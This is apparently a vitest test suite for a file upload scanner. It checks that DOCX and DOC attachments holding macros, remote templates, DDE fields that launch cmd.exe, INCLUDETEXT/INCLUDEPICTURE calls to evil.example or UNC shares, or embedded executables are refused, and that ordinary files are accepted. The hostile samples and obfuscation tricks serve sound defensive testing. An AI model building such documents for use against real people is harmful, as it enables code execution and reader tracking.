import { strToU8 } from "fflate";
import { afterAll, describe, expect, test } from "vitest";
import { testApp } from "#app/testing.ts";
import { buildCompoundFile, buildDocx, buildDocxWithRelationship, buildPackage } from "./testing/documents.ts";
import { none, storageClient } from "./testing/storage-client.ts";

const app = await testApp();
await app.startJobs();
afterAll(() => app.close());
const acme = await app.tenant("acme");
const lena = await app.as("referrer", acme);
const { put, orphans } = storageClient(app, "acme");
const send = async (name: string, bytes: Buffer) => {
  const answer = await put(lena, `attachments/${lena.personId}/${name}`, bytes);
  return [answer.statusCode, answer.json().error?.reason ?? "taken"];
};
const refused = [422, "files.activeContent"];
const taken = [200, "taken"];

const vba = buildCompoundFile(["Root Entry", "VBA", "dir", "_VBA_PROJECT", "PROJECT"]);
const types = (inside: string) =>
  strToU8(
    `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">${inside}</Types>`,
  );
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, "utf16le");
const relation = (type: string) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.microsoft.com/office/2006/relationships/${type}" Target="a.bin"/></Relationships>`;

describe("an attacker cannot run macros on the machine of a person who opens an attachment", () => {
  test.each<[string, Buffer]>([
    ["under their usual name", buildDocx({ "word/vbaProject.bin": vba })],
    ["under any name", buildDocx({ "word/media/image7.png": vba })],
    [
      "named by a content type",
      buildDocx({
        "[Content_Types].xml": types(
          '<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
      }),
    ],
    [
      "named by a content type in other letters",
      buildDocx({
        "[Content_Types].xml": types(
          '<Default Extension="bin" ContentType="application/vnd.ms-office.&#118;baProject"/>',
        ),
      }),
    ],
    [
      "of a document with macros",
      buildDocx({
        "[Content_Types].xml": types(
          '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
        ),
      }),
    ],
    ["named by a relation", buildDocx({ "word/_rels/document.xml.rels": strToU8(relation("vbaProject")) })],
    ["named by a relation in UTF-16", buildDocx({ "word/_rels/document.xml.rels": utf16(relation("vbaProject")) })],
    [
      "in a document inside the document",
      buildDocx({ "word/embeddings/a.docm": buildDocx({ "word/vbaProject.bin": vba }) }),
    ],
    [
      "in an object of an older program",
      buildDocx({
        "word/embeddings/oleObject1.bin": buildCompoundFile(["Root Entry", "Workbook", "_VBA_PROJECT_CUR"]),
      }),
    ],
  ])("rejects macros in a DOCX: %s", async (_, bytes) => {
    expect(await send("offer.docx", bytes)).toEqual(refused);
  });

  test("rejects macros in a DOC, even late in its directory", async () => {
    const many = Array.from({ length: 400 }, (_, i) => `Object ${i}`);
    const doc = buildCompoundFile(["Root Entry", "WordDocument", ...many, "Macros", "VBA"]);
    expect(await send("offer.doc", doc)).toEqual(refused);
  });

  test("accepts embedded objects without macros", async () => {
    const equation = buildCompoundFile(["Root Entry", "Equation Native", "\u0001Ole"]);
    expect(await send("offer.docx", buildDocx({ "word/embeddings/oleObject1.bin": equation }))).toEqual(taken);
  });
});

describe("an attacker cannot learn who opens a document, or make it load remote code", () => {
  const remote = "https://evil.example/a.dotm";
  test.each([
    ["attachedTemplate", remote],
    ["attachedTemplate", "\\\\evil.example\\share\\a.dotm"],
    ["attachedTemplate", "file://evil.example/share/a.dotm"],
    ["attachedTemplate", "file:///\\\\evil.example\\share\\a.dotm"],
    ["attachedTemplate", "file:///%5C%5Cevil.example/a.dotm"],
    ["oleObject", "mhtml:https://evil.example/a.html!x-usc:https://evil.example/a.html"],
    ["frame", remote],
    ["subDocument", remote],
    ["aFChunk", remote],
    ["image", "\\\\evil.example\\share\\a.png"],
    ["image", "file://evil.example/share/a.png"],
    ["hyperlink", "\\\\evil.example\\share"],
    ["hyperlink", "file:////evil.example/share"],
    ["mailMergeSource", "file://evil.example/a.mdb"],
  ])("rejects a %s from %s", async (type, target) => {
    expect(await send("offer.docx", buildDocxWithRelationship(type, target))).toEqual(refused);
  });

  test.each([
    ["hyperlink", "https://example.com/"],
    ["hyperlink", "mailto:ana@example.com"],
    ["hyperlink", "file:///C:\\Users\\ana\\offer.xlsx"],
    ["image", "https://example.com/logo.png"],
    ["attachedTemplate", "file:///C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Templates\\Letter.dotx"],
    ["attachedTemplate", "file:///Users/ana/Library/Letter.dotx"],
    ["attachedTemplate", "Letter.dotx"],
  ])("accepts a %s to %s", async (type, target) => {
    expect(await send("offer.docx", buildDocxWithRelationship(type, target))).toEqual(taken);
  });
});

const inDocument = (inside: string) => ({
  "word/document.xml": strToU8(
    `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${inside}</w:p></w:body></w:document>`,
  ),
});
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const code = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const field = (...codes: string[]) =>
  `${mark("begin")}${codes.join("")}${mark("separate")}<w:r><w:t>1</w:t></w:r>${mark("end")}`;

describe("an attacker cannot run a program or track readers through a document field", () => {
  const shell = 'c:\\windows\\system32\\cmd.exe "/k calc"';
  const share = '"\\\\\\\\evil.example\\\\a"';
  test.each<[string, string]>([
    ["DDEAUTO", field(code(` DDEAUTO ${shell}`))],
    ["DDE in small letters", field(code(`dde ${shell}`))],
    ["one split into runs", field(code(" D"), code("DEAU"), code(`TO ${shell}`))],
    ["one written with entities", field(code(`&#68;DE ${shell}`))],
    ["one in CDATA", field(code(`<![CDATA[DDE ${shell}]]>`))],
    ["one that is simple", `<w:fldSimple w:instr="DDEAUTO c:\\cmd.exe"/>`],
    ["one inside another", field(code(" IF 1 = 1 "), field(code(`DDE ${shell}`)))],
    ["one that never ends", mark("begin") + code(`DDE ${shell}`)],
    ["one put together from numbers", field(field(code("QUOTE 68 68 69")), code(shell))],
    ["INCLUDETEXT of the web", field(code('INCLUDETEXT "https://evil.example/a.docx"'))],
    ["INCLUDETEXT of another machine", field(code(`INCLUDETEXT ${share}`))],
    ["INCLUDEPICTURE of another machine", field(code(`INCLUDEPICTURE ${share} \\* MERGEFORMAT`))],
    ["INCLUDEPICTURE that is loaded at opening", field(code('INCLUDEPICTURE "https://evil.example/a.png" \\d'))],
    ["INCLUDEPICTURE put together from numbers", field(code("INCLUDEPICTURE "), field(code("QUOTE 92 92 101")))],
    ["LINK to another machine", field(code(`LINK Excel.Sheet.12 ${share}`))],
    ["HYPERLINK to another machine", field(code(`HYPERLINK ${share}`))],
  ])("rejects a field: %s", async (_, inside) => {
    expect(await send("offer.docx", buildDocx(inDocument(inside)))).toEqual(refused);
  });

  test("rejects such a field in any part and any encoding", async () => {
    const footer = `<?xml version="1.0" encoding="utf-16"?><w:ftr xmlns:w="w">${field(code(`DDE ${shell}`))}</w:ftr>`;
    expect(await send("offer.docx", buildDocx({ "word/footer1.xml": utf16(footer) }))).toEqual(refused);
    const other = Buffer.from(footer, "utf16le").swap16();
    expect(await send("offer.docx", buildDocx({ "word/a.bin": other }))).toEqual(refused);
  });

  test("accepts a document with ordinary fields", async () => {
    const fields = [
      "PAGE \\* MERGEFORMAT",
      'TOC \\o "1-3" \\h \\z \\u',
      'HYPERLINK "https://example.com" \\t "_blank"',
      'HYPERLINK \\l "_Toc1"',
      'MERGEFIELD "Name"',
      'INCLUDEPICTURE "https://example.com/logo.png" \\* MERGEFORMATINET',
      'INCLUDEPICTURE "C:\\\\Users\\\\ana\\\\logo.png" \\d',
      'LINK Excel.Sheet.12 "C:\\\\Users\\\\ana\\\\offer.xlsx" "A1"',
    ].map((text) => field(code(text)));
    const text = "<w:r><w:t>We use DDE and DDEAUTO.</w:t></w:r>";
    expect(await send("offer.docx", buildDocx(inDocument(text + fields.join(""))))).toEqual(taken);
    const nested = field(code(" IF "), field(code(' MERGEFIELD "a" ')), code(' = "1" "{yes}" "no" '));
    expect(await send("offer.docx", buildDocx(inDocument(nested)))).toEqual(taken);
  });
});

describe("an attacker cannot deliver a program embedded in a document", () => {
  const program = Buffer.alloc(6000);
  program.write("MZ", 0, "latin1");
  program.writeUInt32LE(128, 60);
  program.write("PE\0\0", 128, "latin1");
  const text = Buffer.from("hello");
  const embedded = (content: Buffer) => buildDocx({ "word/embeddings/oleObject1.bin": content });
  test.each<[string, Buffer]>([
    ["under its name", embedded(buildPackage("setup.exe", Buffer.alloc(6000, 1)))],
    ["under its name, a short one", embedded(buildPackage("run.vbs", text))],
    ["under another name", embedded(buildPackage("offer.txt", program))],
    ["as it is", buildDocx({ "word/embeddings/a.bin": program })],
    ["as a part of another format", buildDocx({ "word/_rels/document.xml.rels": strToU8(relation("aFChunk")) })],
  ])("rejects an embedded program %s", async (_, bytes) => {
    expect(await send("offer.docx", bytes)).toEqual(refused);
  });

  test("accepts other packaged files", async () => {
    expect(await send("offer.docx", embedded(buildPackage("terms.pdf", Buffer.alloc(6000, 1))))).toEqual(taken);
    expect(await send("offer.docx", embedded(buildPackage("notes.txt", text)))).toEqual(taken);
  });
});

test("a rejected file leaves nothing behind", async () => {
  await expect.poll(orphans).toEqual(none);
});
